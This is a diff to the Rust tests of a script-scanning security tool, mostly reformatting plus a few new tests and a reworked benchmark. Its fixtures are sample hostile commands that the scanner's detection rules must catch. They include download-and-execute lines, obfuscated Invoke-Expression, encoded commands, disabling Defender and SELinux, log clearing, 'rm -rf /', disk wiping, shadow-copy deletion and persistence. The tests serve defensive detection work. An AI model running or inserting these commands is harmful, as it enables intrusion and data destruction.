@@ -64,6 +64,17 @@ fn tree_of(files: Vec<F>) -> FileTree {
 }
 
 fn scan_with(extra_policy: &str, files: Vec<F>) -> ScanReport {
+    // The default policy's scanner is compiled once for all tests.
+    static DEFAULT: std::sync::OnceLock<(Policy, Scanner)> = std::sync::OnceLock::new();
+    if extra_policy.is_empty() {
+        let (policy, scanner) = DEFAULT.get_or_init(|| {
+            let p = policy("");
+            let s = Scanner::new(&p).expect("scanner compiles");
+            (p, s)
+        });
+        let lib = Library::assemble("lib", &tree_of(files), policy);
+        return scanner.scan_library(&lib);
+    }
     let policy = policy(extra_policy);
     let lib = Library::assemble("lib", &tree_of(files), &policy);
     let scanner = Scanner::new(&policy).expect("scanner compiles");
@@ -93,7 +104,10 @@ fn check(files: Vec<F>, expected: &[&str]) -> ScanReport {
 }
 
 fn ps(text: &str) -> Vec<F> {
-    vec![manifest("windows", "run.ps1", "powershell"), t("run.ps1", text)]
+    vec![
+        manifest("windows", "run.ps1", "powershell"),
+        t("run.ps1", text),
+    ]
 }
 
 fn sh(text: &str) -> Vec<F> {
@@ -129,12 +143,16 @@ fn utf16(text: &str, big_endian: bool) -> Vec<u8> {
 #[test]
 fn clean_scripts_have_no_findings() {
     let r = check(
-        sh("#!/bin/sh\nps -ef\ncrontab -l\nsystemctl is-enabled sshd\nlaunchctl list\ngrep -i curl ~/.bash_history\ncp /etc/crontab \"$OUT/\"\ndd if=/dev/sda of=/tmp/disk.img bs=4M\n"),
+        sh(
+            "#!/bin/sh\nps -ef\ncrontab -l\nsystemctl is-enabled sshd\nlaunchctl list\ngrep -i curl ~/.bash_history\ncp /etc/crontab \"$OUT/\"\ndd if=/dev/sda of=/tmp/disk.img bs=4M\n",
+        ),
         &[],
     );
     assert_eq!((r.scripts, r.files), (1, 2));
     check(
-        ps("Get-ItemProperty HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\nGet-MpPreference | Select-Object DisableRealtimeMonitoring\nvssadmin list shadows\nGet-CimInstance Win32_ShadowCopy | Select-Object ID\n& \"$PSScriptRoot\\tool.exe\" -v\n. $PSScriptRoot\\lib.ps1\n"),
+        ps(
+            "Get-ItemProperty HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\nGet-MpPreference | Select-Object DisableRealtimeMonitoring\nvssadmin list shadows\nGet-CimInstance Win32_ShadowCopy | Select-Object ID\n& \"$PSScriptRoot\\tool.exe\" -v\n. $PSScriptRoot\\lib.ps1\n",
+        ),
         &[],
     );
 }
@@ -164,7 +182,11 @@ fn library_limits_and_timeout() {
     let r = check_with(
         "[limits]\nmax_scripts = 0\nmax_library_size = 10\nmax_timeout = \"1h\"\n",
         files,
-        &["limits.library-size", "limits.script-count", "limits.timeout"],
+        &[
+            "limits.library-size",
+            "limits.script-count",
+            "limits.timeout",
+        ],
     );
     let f = finding(&r, "limits.timeout");
     assert_eq!(f.location.to_string(), "lib/s/script.toml:3:1");
@@ -236,7 +258,10 @@ fn case_collisions() {
     files.push(t("Get-X.ps1", "Get-Date\n"));
     files.push(t("get-x.ps1", "Get-Date\n"));
     let r = check(files, &["path.case-collision"]);
-    assert_eq!(finding(&r, "path.case-collision").location.file, "lib/s/get-x.ps1");
+    assert_eq!(
+        finding(&r, "path.case-collision").location.file,
+        "lib/s/get-x.ps1"
+    );
     let mut files = ps("Get-Date\n");
     files.push(t("Get-X.ps1", "Get-Date\n"));
     files.push(t("get-y.ps1", "Get-Date\n"));
@@ -350,7 +375,8 @@ fn powershell_syntax_errors() {
     );
     let f = finding(&r, "syntax.powershell");
     assert!(f.blocks());
-    assert!(f.location.line.is_some_and(|l| l >= 2), "{f:?}");
+    assert_eq!(f.location.to_string(), "lib/s/run.ps1:3:17", "{f:?}");
+    assert!(f.message.contains("missing `}`"), "{}", f.message);
     check(ps("if ($true) {\n  Write-Host 'x'\n}\n"), &[]);
     // pwsh: warn; known grammar gaps: warn.
     let r = check(
@@ -370,7 +396,10 @@ fn powershell_syntax_errors() {
 
 #[test]
 fn shell_syntax_errors() {
-    let r = check(sh("#!/bin/sh\nif true; then\n  echo x\n"), &["syntax.shell"]);
+    let r = check(
+        sh("#!/bin/sh\nif true; then\n  echo x\n"),
+        &["syntax.shell"],
+    );
     assert!(finding(&r, "syntax.shell").message.contains("fi"));
     let r = check(
         vec![
@@ -415,7 +444,10 @@ fn elf() -> Vec<u8> {
 }
 
 fn exe_script(extra: Vec<F>) -> Vec<F> {
-    let mut files = vec![manifest("linux", "tool", "executable"), F::Exec("tool", elf())];
+    let mut files = vec![
+        manifest("linux", "tool", "executable"),
+        F::Exec("tool", elf()),
+    ];
     files.extend(extra);
     files
 }
@@ -473,7 +505,9 @@ fn powershell_download_and_execute() {
         &["download-exec.powershell", "obfuscation.dynamic-invoke"],
     );
     check(
-        ps("& ('Invoke-' + 'Expression') ((New-Object Net.WebClient).DownloadString('http://evil/x'))\n"),
+        ps(
+            "& ('Invoke-' + 'Expression') ((New-Object Net.WebClient).DownloadString('http://evil/x'))\n",
+        ),
         &["download-exec.powershell", "obfuscation.dynamic-invoke"],
     );
     // Split over lines (regex misses it, the tree does not).
@@ -481,37 +515,83 @@ fn powershell_download_and_execute() {
         ps("Invoke-Expression `\n  ((New-Object Net.WebClient).DownloadString('http://evil/x'))\n"),
         &["download-exec.powershell"],
     );
-    check(ps("iwr http://x/a.ps1 -UseBasicParsing | iex\n"), &["download-exec.powershell"]);
+    check(
+        ps("iwr http://x/a.ps1 -UseBasicParsing | iex\n"),
+        &["download-exec.powershell"],
+    );
     // An alias the script defines.
     check(
-        ps("Set-Alias go Invoke-Expression\ngo ((New-Object Net.WebClient).DownloadString('http://evil/x'))\n"),
+        ps(
+            "Set-Alias go Invoke-Expression\ngo ((New-Object Net.WebClient).DownloadString('http://evil/x'))\n",
+        ),
         &["download-exec.powershell"],
     );
     // Near misses: downloading data, running local code.
-    check(ps("Invoke-WebRequest http://x/data.json -OutFile data.json\n"), &[]);
+    check(
+        ps("Invoke-WebRequest http://x/data.json -OutFile data.json\n"),
+        &[],
+    );
     check(ps("Invoke-Expression \"Get-Date\"\n"), &[]);
 }
 
 #[test]
 fn shell_download_and_execute() {
-    check(sh("#!/bin/sh\ncurl -fsSL http://x | sh\n"), &["download-exec.shell"]);
-    check(sh("#!/bin/bash\nbash <(curl -s http://x)\n"), &["download-exec.shell"]);
-    check(sh("#!/bin/sh\nsh -c \"$(wget -qO- http://x)\"\n"), &["download-exec.shell"]);
+    check(
+        sh("#!/bin/sh\ncurl -fsSL http://x | sh\n"),
+        &["download-exec.shell"],
+    );
+    check(
+        sh("#!/bin/bash\nbash <(curl -s http://x)\n"),
+        &["download-exec.shell"],
+    );
+    check(
+        sh("#!/bin/sh\nsh -c \"$(wget -qO- http://x)\"\n"),
+        &["download-exec.shell"],
+    );
     check(
         sh("#!/bin/sh\ncurl -fsSL \\\n  http://x | sudo bash -s\n"),
         &["download-exec.shell"],
     );
     check(sh("#!/bin/sh\ncurl -fsSL http://x | shasum -a 256\n"), &[]);
-    check(sh("#!/bin/sh\ncurl -s http://localhost/api | python3 -m json.tool\n"), &[]);
+    check(
+        sh("#!/bin/sh\ncurl -s http://localhost/api | python3 -m json.tool\n"),
+        &[],
+    );
     check(sh("#!/bin/sh\n./install.sh --version\n"), &[]);
 }
 
 #[test]
 fn obfuscation() {
-    check(ps("& ('{0}{1}' -f 'ie','x') 'Get-Date'\n"), &["obfuscation.dynamic-invoke"]);
-    check(ps("$c = 'Inv'+'oke-Expression'\n& $c 'Get-Date'\n"), &["obfuscation.dynamic-invoke"]);
-    check(ps("& $exe -v\n& (Join-Path $PSScriptRoot 'x.exe')\n"), &[]);
-    check(sh("#!/bin/sh\nc\\url http://x\n"), &["obfuscation.dynamic-invoke"]);
+    check(
+        ps("& ('{0}{1}' -f 'ie','x') 'Get-Date'\n"),
+        &["obfuscation.dynamic-invoke"],
+    );
+    check(
+        ps("$c = 'Inv'+'oke-Expression'\n& $c 'Get-Date'\n"),
+        &["obfuscation.dynamic-invoke"],
+    );
+    check(
+        ps(
+            "& $exe -v\n& (Join-Path $PSScriptRoot 'x.exe')\n& ($PSScriptRoot + '\\bin\\tool.exe') -v\n& ('C:\\t\\' + 'tool.exe')\n",
+        ),
+        &[],
+    );
+    // Helper files (not parsed) are covered by the regex.
+    let mut files = ps("Get-Date\n");
+    files.push(t(
+        "helper.psm1",
+        "function f { & ('Invoke-' + 'Expression') $args }\n",
+    ));
+    let r = check(files, &["obfuscation.dynamic-invoke"]);
+    assert_eq!(r.findings[0].location.file, "lib/s/helper.psm1");
+    check(
+        ps("&('Microsoft.PowerShell.Utility\\' + 'Invoke-Expression') 'Get-Date'\n"),
+        &["obfuscation.dynamic-invoke"],
+    );
+    check(
+        sh("#!/bin/sh\nc\\url http://x\n"),
+        &["obfuscation.dynamic-invoke"],
+    );
     check(sh("#!/bin/sh\n\\rm -f /tmp/x\n"), &[]);
 }
 
@@ -521,30 +601,54 @@ fn encoded_commands() {
         ps("powershell.exe -NoProfile -enc SQBFAFgAIAAoAE4AZQB3AC0A\n"),
         &["encoded-command"],
     );
-    check(sh("#!/bin/sh\necho Y3VybCB4fHNo | base64 -d | sh\n"), &["encoded-command"]);
+    check(
+        sh("#!/bin/sh\necho Y3VybCB4fHNo | base64 -d | sh\n"),
+        &["encoded-command"],
+    );
     check(
         ps("iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($p)))\n"),
         &["encoded-command"],
     );
-    check(ps("powershell.exe -ExecutionPolicy Bypass -File x.ps1\n"), &[]);
+    check(
+        ps("powershell.exe -ExecutionPolicy Bypass -File x.ps1\n"),
+        &[],
+    );
     check(sh("#!/bin/sh\nbase64 -d in.b64 > out.bin\n"), &[]);
 }
 
 #[test]
 fn defense_evasion() {
-    check(ps("Set-MpPreference -DisableRealtimeMonitoring $true\n"), &["defense.disable-defender"]);
-    check(ps("Add-MpPreference -ExclusionPath C:\\x\n"), &["defense.disable-defender"]);
+    check(
+        ps("Set-MpPreference -DisableRealtimeMonitoring $true\n"),
+        &["defense.disable-defender"],
+    );
+    check(
+        ps("Add-MpPreference -ExclusionPath C:\\x\n"),
+        &["defense.disable-defender"],
+    );
     check(ps("Get-MpPreference\n"), &[]);
-    check(sh("#!/bin/sh\nsetenforce 0\n"), &["defense.disable-selinux"]);
+    check(
+        sh("#!/bin/sh\nsetenforce 0\n"),
+        &["defense.disable-selinux"],
+    );
     check(
         sh("#!/bin/sh\nsed -i 's/SELINUX=enforcing/SELINUX=disabled/' /etc/selinux/config\n"),
         &["defense.disable-selinux"],
     );
-    check(sh("#!/bin/sh\ngetenforce\ngrep SELINUX= /etc/selinux/config\n"), &[]);
+    check(
+        sh("#!/bin/sh\ngetenforce\ngrep SELINUX= /etc/selinux/config\n"),
+        &[],
+    );
     check(sh("#!/bin/sh\nauditctl -e 0\n"), &["defense.stop-audit"]);
-    check(sh("#!/bin/sh\nsystemctl stop auditd\n"), &["defense.stop-audit"]);
+    check(
+        sh("#!/bin/sh\nsystemctl stop auditd\n"),
+        &["defense.stop-audit"],
+    );
     check(ps("wevtutil cl Security\n"), &["defense.stop-audit"]);
-    check(ps("Clear-EventLog -LogName Security\n"), &["defense.stop-audit"]);
+    check(
+        ps("Clear-EventLog -LogName Security\n"),
+        &["defense.stop-audit"],
+    );
     check(sh("#!/bin/sh\nauditctl -l\nsystemctl status auditd\n"), &[]);
     check(ps("wevtutil qe Security /c:10\n"), &[]);
 }
@@ -553,13 +657,31 @@ fn defense_evasion() {
 fn destruction() {
     check(sh("#!/bin/sh\nrm -rf /\n"), &["destructive.rm-root"]);
     check(sh("#!/bin/sh\nsudo rm -rf /*\n"), &["destructive.rm-root"]);
-    check(sh("#!/bin/sh\nrm -rf --no-preserve-root \"$X\"\n"), &["destructive.rm-root"]);
+    check(
+        sh("#!/bin/sh\nrm -rf --no-preserve-root \"$X\"\n"),
+        &["destructive.rm-root"],
+    );
     check(sh("#!/bin/sh\nrm -rf /tmp/triage\n"), &[]);
-    check(sh("#!/bin/sh\nmkfs.ext4 /dev/sdb1\n"), &["destructive.format"]);
-    check(sh("#!/bin/sh\ndd if=/dev/zero of=/dev/sda bs=1M\n"), &["destructive.format"]);
-    check(ps("Format-Volume -DriveLetter D\n"), &["destructive.format"]);
-    check(sh("#!/bin/sh\ndd if=/dev/sda of=/mnt/evidence/sda.img\necho x > /dev/null\n"), &[]);
-    check(ps("vssadmin delete shadows /all /quiet\n"), &["destructive.shadow-copy"]);
+    check(
+        sh("#!/bin/sh\nmkfs.ext4 /dev/sdb1\n"),
+        &["destructive.format"],
+    );
+    check(
+        sh("#!/bin/sh\ndd if=/dev/zero of=/dev/sda bs=1M\n"),
+        &["destructive.format"],
+    );
+    check(
+        ps("Format-Volume -DriveLetter D\n"),
+        &["destructive.format"],
+    );
+    check(
+        sh("#!/bin/sh\ndd if=/dev/sda of=/mnt/evidence/sda.img\necho x > /dev/null\n"),
+        &[],
+    );
+    check(
+        ps("vssadmin delete shadows /all /quiet\n"),
+        &["destructive.shadow-copy"],
+    );
     check(ps("wmic shadowcopy delete\n"), &["destructive.shadow-copy"]);
     check(
         ps("Get-CimInstance Win32_ShadowCopy | Remove-CimInstance\n"),
@@ -575,28 +697,48 @@ fn secrets() {
     files.push(t("key.pem", &format!("{header}\nMIIE\n")));
     check(files, &["secrets.private-key"]);
     let mut files = sh("#!/bin/sh\nid\n");
-    files.push(t("notes.txt", "the key is RSA PRIVATE KEY material kept in the vault\n"));
+    files.push(t(
+        "notes.txt",
+        "the key is RSA PRIVATE KEY material kept in the vault\n",
+    ));
     check(files, &[]);
     let key_id = ["AKIA", "ABCDEFGHIJKLMNOP"].concat();
-    check(sh(&format!("#!/bin/sh\nexport AWS_ACCESS_KEY_ID={key_id}\n")), &["secrets.cloud-key"]);
+    check(
+        sh(&format!("#!/bin/sh\nexport AWS_ACCESS_KEY_ID={key_id}\n")),
+        &["secrets.cloud-key"],
+    );
     check(sh("#!/bin/sh\nexport AWS_ACCESS_KEY_ID=AKIAEXAMPLE\n"), &[]);
     let token = ["ghp_", &"a1B2".repeat(9)].concat();
-    check(sh(&format!("#!/bin/sh\nTOKEN={token}\n")), &["secrets.cloud-key"]);
+    check(
+        sh(&format!("#!/bin/sh\nTOKEN={token}\n")),
+        &["secrets.cloud-key"],
+    );
     let r = check(ps("$password = \"hunter22\"\n"), &["secrets.password"]);
     assert!(!r.findings[0].blocks());
     check(
         ps("$s = ConvertTo-SecureString 'P@ssw0rd!' -AsPlainText -Force\n"),
         &["secrets.password"],
     );
-    check(ps("$password = Read-Host 'Password' -AsSecureString\n"), &[]);
+    check(
+        ps("$password = Read-Host 'Password' -AsSecureString\n"),
+        &[],
+    );
 }
 
 #[test]
 fn persistence() {
-    check(ps("schtasks /create /tn x /tr c:\\x.exe /sc onlogon\n"), &["persistence.create"]);
-    check(ps("Register-ScheduledTask -TaskName x -Action $a\n"), &["persistence.create"]);
     check(
-        ps("Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name x -Value c:\\x.exe\n"),
+        ps("schtasks /create /tn x /tr c:\\x.exe /sc onlogon\n"),
+        &["persistence.create"],
+    );
+    check(
+        ps("Register-ScheduledTask -TaskName x -Action $a\n"),
+        &["persistence.create"],
+    );
+    check(
+        ps(
+            "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name x -Value c:\\x.exe\n",
+        ),
         &["persistence.create"],
     );
     check(
@@ -604,21 +746,43 @@ fn persistence() {
         &["persistence.create"],
     );
     check(
-        ps("Get-ItemProperty HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\n$sp = Get-ItemProperty 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'\nschtasks /query /fo csv\n"),
+        ps(
+            "Get-ItemProperty HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\n$sp = Get-ItemProperty 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'\nschtasks /query /fo csv\n",
+        ),
         &[],
     );
     check(
         sh("#!/bin/sh\n(crontab -l; echo '* * * * * /tmp/x') | crontab -\n"),
         &["persistence.create"],
     );
-    check(sh("#!/bin/sh\ncrontab /tmp/cron\n"), &["persistence.create"]);
-    check(sh("#!/bin/sh\ncrontab -l\ncrontab -u root -l | grep x\necho crontab listing\n"), &[]);
-    check(sh("#!/bin/sh\nsystemctl enable --now x.service\n"), &["persistence.create"]);
-    check(sh("#!/bin/sh\nlaunchctl load ~/Library/LaunchAgents/x.plist\n"), &["persistence.create"]);
-    check(sh("#!/bin/sh\ncp x.plist ~/Library/LaunchAgents/\n"), &["persistence.create"]);
-    check(sh("#!/bin/sh\necho 'x' >> ~/.bashrc\n"), &["persistence.create"]);
     check(
-        sh("#!/bin/sh\nlaunchctl list\nls ~/Library/LaunchAgents\ncp ~/Library/LaunchAgents/*.plist \"$OUT/\"\ncat ~/.bashrc > \"$OUT/bashrc\"\n"),
+        sh("#!/bin/sh\ncrontab /tmp/cron\n"),
+        &["persistence.create"],
+    );
+    check(
+        sh("#!/bin/sh\ncrontab -l\ncrontab -u root -l | grep x\necho crontab listing\n"),
+        &[],
+    );
+    check(
+        sh("#!/bin/sh\nsystemctl enable --now x.service\n"),
+        &["persistence.create"],
+    );
+    check(
+        sh("#!/bin/sh\nlaunchctl load ~/Library/LaunchAgents/x.plist\n"),
+        &["persistence.create"],
+    );
+    check(
+        sh("#!/bin/sh\ncp x.plist ~/Library/LaunchAgents/\n"),
+        &["persistence.create"],
+    );
+    check(
+        sh("#!/bin/sh\necho 'x' >> ~/.bashrc\n"),
+        &["persistence.create"],
+    );
+    check(
+        sh(
+            "#!/bin/sh\nlaunchctl list\nls ~/Library/LaunchAgents\ncp ~/Library/LaunchAgents/*.plist \"$OUT/\"\ncat ~/.bashrc > \"$OUT/bashrc\"\n",
+        ),
         &[],
     );
 }
@@ -663,14 +827,27 @@ fn one_finding_per_rule_and_file_in_order() {
         .iter()
         .map(|f| (f.location.line, f.rule.as_str()))
         .collect();
-    assert_eq!(got, [(Some(2), "persistence.create"), (Some(3), "defense.disable-selinux")]);
-    assert!(r.findings[0].message.contains("2 matches"), "{}", r.findings[0].message);
+    assert_eq!(
+        got,
+        [
+            (Some(2), "persistence.create"),
+            (Some(3), "defense.disable-selinux")
+        ]
+    );
+    assert!(
+        r.findings[0].message.contains("2 matches"),
+        "{}",
+        r.findings[0].message
+    );
 }
 
 #[test]
 fn broken_manifests_are_findings() {
     let r = check(
-        vec![t("script.toml", "name = \"s\"\nplatforms = [\"linux\"]\ncolour = 1\n")],
+        vec![t(
+            "script.toml",
+            "name = \"s\"\nplatforms = [\"linux\"]\ncolour = 1\n",
+        )],
         &["manifest.invalid"],
     );
     assert_eq!(r.findings[0].location.file, "lib/s/script.toml");
@@ -687,13 +864,23 @@ fn threads_do_not_change_the_report() {
         );
         tree.insert_file(
             format!("s{i:02}/r.sh"),
-            if i % 3 == 0 { "#!/bin/sh\nsetenforce 0\n" } else { "#!/bin/sh\nid\n" },
+            if i % 3 == 0 {
+                "#!/bin/sh\nsetenforce 0\n"
+            } else {
+                "#!/bin/sh\nid\n"
+            },
         );
     }
     let policy = policy("");
     let lib = Library::assemble("lib", &tree, &policy);
-    let one = Scanner::new(&policy).unwrap().with_threads(1).scan_library(&lib);
-    let many = Scanner::new(&policy).unwrap().with_threads(4).scan_library(&lib);
+    let one = Scanner::new(&policy)
+        .unwrap()
+        .with_threads(1)
+        .scan_library(&lib);
+    let many = Scanner::new(&policy)
+        .unwrap()
+        .with_threads(4)
+        .scan_library(&lib);
     assert_eq!(one.findings, many.findings);
     assert_eq!(one.findings.len(), 14);
     assert_eq!((many.scripts, many.files), (40, 80));
@@ -704,24 +891,41 @@ fn every_default_rule_is_documented_and_builtins_are_listed() {
     let docs = include_str!("../../../../docs/rules.md");
     let policy = policy("");
     for r in &policy.rules {
-        assert!(docs.contains(&format!("`{}`", r.id)), "docs/rules.md lacks {}", r.id);
-        assert!(!r.message.is_empty() && !r.help.is_empty(), "{} needs message and help", r.id);
+        assert!(
+            docs.contains(&format!("`{}`", r.id)),
+            "docs/rules.md lacks {}",
+            r.id
+        );
+        assert!(
+            !r.message.is_empty() && !r.help.is_empty(),
+            "{} needs message and help",
+            r.id
+        );
     }
     for (id, _) in crate::policy::BUILTIN_CHECKS {
-        assert!(docs.contains(&format!("`{id}`")), "docs/rules.md lacks {id}");
+        assert!(
+            docs.contains(&format!("`{id}`")),
+            "docs/rules.md lacks {id}"
+        );
     }
     // The rules file must not itself look like it holds a key.
     let literal = ["-----BEGIN ", "PRIVATE KEY-----"].concat();
     assert!(!RULES.contains(&literal) && !docs.contains(&literal));
 }
 
-/// CPU time of this thread (the machine may be busy; wall time would mislead).
+/// CPU time of this thread (the machine may be busy; wall time alone would mislead).
 fn cpu() -> std::time::Duration {
     let stat = std::fs::read_to_string("/proc/thread-self/schedstat").unwrap_or_default();
-    let ns = stat.split_whitespace().next().and_then(|n| n.parse().ok()).unwrap_or(0);
+    let ns = stat
+        .split_whitespace()
+        .next()
+        .and_then(|n| n.parse().ok())
+        .unwrap_or(0);
     std::time::Duration::from_nanos(ns)
 }
 
+/// A ~100 MB library of 2,000 distinct read-only scripts, half of the bytes in entry
+/// files (parsed) and half in helpers (searched only):
 /// `cargo test --release -p quiver-core -- --ignored bench_library --nocapture`
 #[test]
 #[ignore]
@@ -744,98 +948,95 @@ fn bench_library() {
         "systemctl list-unit-files --state=enabled --no-pager",
         "find /tmp /var/tmp -xdev -type f -mtime -2 -printf '%T@ %p\\n' 2>/dev/null | sort -n | tail -50",
     ];
-    let size = 50_000;
     let mut tree = FileTree::new();
-    let mut total = 0;
+    let (mut total, mut entry_bytes) = (0, 0);
     for i in 0..2000 {
         let (ext, interp, platform, lines) = if i % 2 == 0 {
             ("ps1", "powershell", "windows", &ps_lines)
         } else {
             ("sh", "bash", "linux", &sh_lines)
         };
-        // Every file distinct, so nothing is parsed once for many scripts.
-        let mut text = if ext == "sh" { "#!/bin/sh\n".to_string() } else { String::new() };
+        // Every file distinct, so the parse cache does not help the first scan.
+        let mut text = if ext == "sh" {
+            "#!/bin/sh\n".to_string()
+        } else {
+            String::new()
+        };
         text.push_str(&format!("# script {i}\n"));
         let mut k = i;
-        while text.len() < size {
+        while text.len() < 50_000 {
             text.push_str(lines[k % lines.len()]);
             text.push('\n');
             k += 3;
         }
+        let cut = text[..text.len() / 2].rfind('\n').map_or(0, |n| n + 1);
+        let (entry, helper) = text.split_at(cut);
         total += text.len();
+        entry_bytes += entry.len();
         tree.insert_file(
             format!("s{i:04}/script.toml"),
             format!("name = \"s{i:04}\"\nplatforms = [\"{platform}\"]\n[entry.{platform}]\nfile = \"run.{ext}\"\ninterpreter = \"{interp}\"\n"),
         );
-        // Half the bytes in entries, half in helper files that are only searched.
-        let cut = text[..text.len() / 2].rfind('\n').map_or(0, |n| n + 1);
-        let (entry, helper) = text.split_at(cut);
         tree.insert_file(format!("s{i:04}/run.{ext}"), entry.to_string());
-        tree.insert_file(format!("s{i:04}/lib.{ext}"), format!("# helper {i}\n{helper}"));
+        tree.insert_file(
+            format!("s{i:04}/lib.{ext}"),
+            format!("# helper {i}\n{helper}"),
+        );
     }
     let p = policy("");
     let lib = Library::assemble("lib", &tree, &p);
-    let scanner = Scanner::new(&p).unwrap();
-    let only = std::env::var("QV_ONLY").unwrap_or_default();
-    for threads in if only.is_empty() { vec![1, 2] } else { vec![] } {
-        let s = Scanner::new(&p).unwrap().with_threads(threads);
+    let mb = |n: usize| n as f64 / 1e6;
+    eprintln!(
+        "{:.0} MB, of which {:.0} MB in entry files",
+        mb(total),
+        mb(entry_bytes)
+    );
+    let threads = std::thread::available_parallelism().map_or(1, |n| n.get());
+    for n in [1, threads] {
+        let scanner = Scanner::new(&p).unwrap().with_threads(n);
         let t0 = std::time::Instant::now();
-        let r = s.scan_library(&lib);
-        eprintln!("{threads} thread(s): {} MB in {:?}, {} findings", total / 1_000_000, t0.elapsed(), r.findings.len());
+        let first = scanner.scan_library(&lib);
+        let cold = t0.elapsed();
         let t0 = std::time::Instant::now();
-        let again = s.scan_library(&lib);
-        eprintln!("  rescan (parses cached): {:?}", t0.elapsed());
-        assert_eq!(again.findings, r.findings);
+        let again = scanner.scan_library(&lib);
+        eprintln!(
+            "{n} thread(s): cold {cold:?}, rescan (parses cached) {:?}, {} findings",
+            t0.elapsed(),
+            first.findings.len()
+        );
+        assert_eq!(again.findings, first.findings);
     }
-    // The regex pass alone, for comparison with a grep over the same bytes.
-    for _ in 0..if only.is_empty() || only == "regex" { 3 } else { 0 } {
-    let t0 = std::time::Instant::now();
-    let c0 = cpu();
-    let mut hits = 0;
+    // The parts, on this thread.
+    let scanner = Scanner::new(&p).unwrap();
+    let (t0, c0) = (std::time::Instant::now(), cpu());
     for s in &lib.scripts {
         for (rel, e) in &s.files {
             if let TreeEntry::File { bytes, .. } = e {
-                hits += scanner.rules.match_text(Language::from_path(rel), bytes).len();
+                scanner.rules.match_text(Language::from_path(rel), bytes);
             }
         }
     }
-    eprintln!("regex only, 1 thread: {:?} (cpu {:?}, {hits} hits)", t0.elapsed(), cpu() - c0);
-    }
-    // Parsing alone.
-    for want in match only.as_str() { "" => vec![false, true], "parse" => vec![true], "parse0" => vec![false], _ => vec![] } {
-        for ext in ["run.ps1", "run.sh"] {
-
-            let t0 = std::time::Instant::now();
-            let c0 = cpu();
-            let (mut errors, mut commands, mut bytes_parsed) = (0, 0, 0);
-            for s in &lib.scripts {
-                if let Some(TreeEntry::File { bytes, .. }) = s.files.get(ext) {
-                    let lang = Language::from_path(ext);
-                    let p = syntax::parse(lang, std::str::from_utf8(bytes).unwrap(), want).unwrap();
-                    errors += p.error_count;
-                    commands += p.commands.len();
-                    bytes_parsed += bytes.len();
-                }
+    eprintln!(
+        "regex rules over all files: {:?} (cpu {:?})",
+        t0.elapsed(),
+        cpu() - c0
+    );
+    let (t0, c0) = (std::time::Instant::now(), cpu());
+    for s in &lib.scripts {
+        for (rel, e) in &s.files {
+            if let TreeEntry::File { bytes, .. } = e
+                && rel.starts_with("run.")
+            {
+                let text = std::str::from_utf8(bytes).unwrap();
+                syntax::parse(Language::from_path(rel), text, true);
             }
-            eprintln!("parse {ext} (commands: {want}), 1 thread: {} MB in {:?} (cpu {:?}), {errors} errors, {commands} commands", bytes_parsed / 1_000_000, t0.elapsed(), cpu() - c0);
         }
     }
-}
-
-#[test]
-#[ignore]
-fn timing_probe() {
-    let p = policy("");
-    let t0 = std::time::Instant::now();
-    let s = Scanner::new(&p).unwrap();
-    eprintln!("new: {:?}", t0.elapsed());
-    let lib = Library::assemble("lib", &tree_of(sh("#!/bin/sh\nid\n")), &p);
-    let t0 = std::time::Instant::now();
-    s.scan_library(&lib);
-    eprintln!("scan: {:?}", t0.elapsed());
-    let t0 = std::time::Instant::now();
-    s.scan_library(&lib);
-    eprintln!("scan2: {:?}", t0.elapsed());
+    eprintln!(
+        "parsing entry files: {:?} (cpu {:?})",
+        t0.elapsed(),
+        cpu() - c0
+    );
 }
 
 /// Scans the repository's example library with its policies (run by hand; the library
@@ -860,7 +1061,11 @@ fn example_library() {
             if p.is_dir() {
                 add(tree, base, &p);
             } else {
-                let rel = p.strip_prefix(base).unwrap().to_string_lossy().replace('\\', "/");
+                let rel = p
+                    .strip_prefix(base)
+                    .unwrap()
+                    .to_string_lossy()
+                    .replace('\\', "/");
                 tree.insert_file(rel, std::fs::read(&p).unwrap());
             }
         }
@@ -872,5 +1077,43 @@ fn example_library() {
     for f in &report.findings {
         eprintln!("{} {} {} {}", f.severity, f.rule, f.location, f.message);
     }
-    eprintln!("{} scripts, {} files, {} findings", report.scripts, report.files, report.findings.len());
+    eprintln!(
+        "{} scripts, {} files, {} findings",
+        report.scripts,
+        report.files,
+        report.findings.len()
+    );
+}
+
+#[test]
+fn discovered_scripts_are_scanned_like_the_others() {
+    let policy = policy(
+        "[[discovery]]\nglob = \"legacy/*.ps1\"\nplatform = \"windows\"\ninterpreter = \"powershell\"\ntimeout = \"3h\"\n",
+    );
+    let mut tree = FileTree::new();
+    tree.insert_file(
+        "legacy/Get-Stuff.ps1",
+        "Get-Date\niex (iwr http://x/a.ps1)\n",
+    );
+    let lib = Library::assemble("lib", &tree, &policy);
+    let r = Scanner::new(&policy).unwrap().scan_library(&lib);
+    let got: Vec<String> = r
+        .findings
+        .iter()
+        .map(|f| format!("{} {}", f.rule, f.location))
+        .collect();
+    assert_eq!(
+        got,
+        [
+            // Whole-file findings sort before those with a line.
+            "limits.timeout lib/legacy/Get-Stuff.ps1",
+            "download-exec.powershell lib/legacy/Get-Stuff.ps1:2:1",
+        ]
+    );
+}
+
+#[test]
+fn the_scanner_is_shared_between_threads() {
+    fn assert_send_sync<T: Send + Sync>() {}
+    assert_send_sync::<Scanner>();
 }
